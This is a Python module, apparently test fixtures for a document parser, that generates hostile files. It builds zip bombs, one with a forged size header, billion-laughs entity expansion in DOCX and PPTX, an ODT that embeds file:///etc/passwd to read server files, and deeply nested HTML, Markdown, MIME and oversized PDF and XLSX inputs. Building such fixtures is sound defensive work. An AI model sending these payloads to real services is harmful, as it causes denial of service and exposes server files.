"""Documents that mean harm: each would take all the memory or the time of a reader that trusts it."""

import io
import struct
import zipfile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
)
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def _zip(parts: dict[str, bytes], *, stored: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name == stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docx(body: bytes) -> bytes:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r" Target="word/document.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument"/></Relationships>'
    )
    return _zip({"[Content_Types].xml": TYPES, "_rels/.rels": rels, "word/document.xml": body})


def zip_bomb() -> bytes:
    """A docx whose text unfolds to 400 MB of paragraphs."""
    paragraph = b"<w:p><w:r><w:t>" + b"a" * 2**20 + b"</w:t></w:r></w:p>"
    return docx(f'<w:document xmlns:w="{W}"><w:body>'.encode() + paragraph * 400 + b"</w:body></w:document>")


def lying_bomb() -> bytes:
    """The same, whose list of names says that it unfolds to a thousand bytes."""
    bomb = bytearray(zip_bomb())
    place = bomb.rindex(b"PK\x01\x02", 0, bomb.rindex(b"word/document.xml"))
    bomb[place + 24 : place + 28] = struct.pack("<I", 1000)
    return bytes(bomb)


def laughing_docx() -> bytes:
    return docx(f'{LAUGHS}<w:document xmlns:w="{W}"><w:body><w:p>&a11;</w:p></w:body></w:document>'.encode())


def laughing_pptx() -> bytes:
    slide = f"{LAUGHS}<p><t>&a11;</t></p>".encode()
    return _zip({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<p/>", "ppt/slides/slide1.xml": slide})


def prying_odt() -> bytes:
    """A text that asks for a file of the server, by an entity, a linked section and a linked picture."""
    office, text, xlink = (
        "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "http://www.w3.org/1999/xlink",
    )
    content = (
        f'<office:document-content xmlns:office="{office}" xmlns:text="{text}" xmlns:xlink="{xlink}" '
        'office:version="1.2">'
        '<office:body><office:text><text:p>Avant</text:p><text:section text:name="s">'
        '<text:section-source xlink:type="simple" xlink:href="file:///etc/passwd" xlink:show="embed"/>'
        "<text:p>vide</text:p></text:section><text:p>Après</text:p></office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        },
        stored="mimetype",
    )


def long_pdf(pages: int) -> bytes:
    """A PDF of many pages that are all the same one, with much to say."""
    stream = b"BT /F1 8 Tf 20 20 Td " + b"(Le fournil de la cooperative ouvre a sept heures.) Tj 0 9 Td " * 80 + b"ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, b" ".join(b"%d 0 R" % (5 + n) for n in range(pages))),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
    page += b"/Resources << /Font << /F1 3 0 R >> >> >>"
    objects += [page] * pages
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def endless_xlsx() -> bytes:
    """A sheet of two cells, the second in the last corner of what a sheet may have."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return _zip(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r" Type="{rel}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'.encode(),
            "xl/workbook.xml": f'<workbook xmlns="{ns}" xmlns:r="{rel}"><sheets><sheet name="Feuille" sheetId="1" '
            'r:id="s"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="s" '
            f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{ns}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
            '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData></worksheet>'.encode(),
        }
    )


def deep_html() -> bytes:
    return b"<div>" * 200_000 + b"au fond" + b"</div>" * 200_000


def deep_markdown() -> bytes:
    return b"> " * 50_000 + b"au fond\n" + b"[" * 50_000 + b"*a **a " * 20_000


def deep_message() -> bytes:
    parts = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number) for number in range(3000)
    )
    return b"From: a@example.org\r\nSubject: profond\r\n" + parts + b"\r\nau fond\r\n"
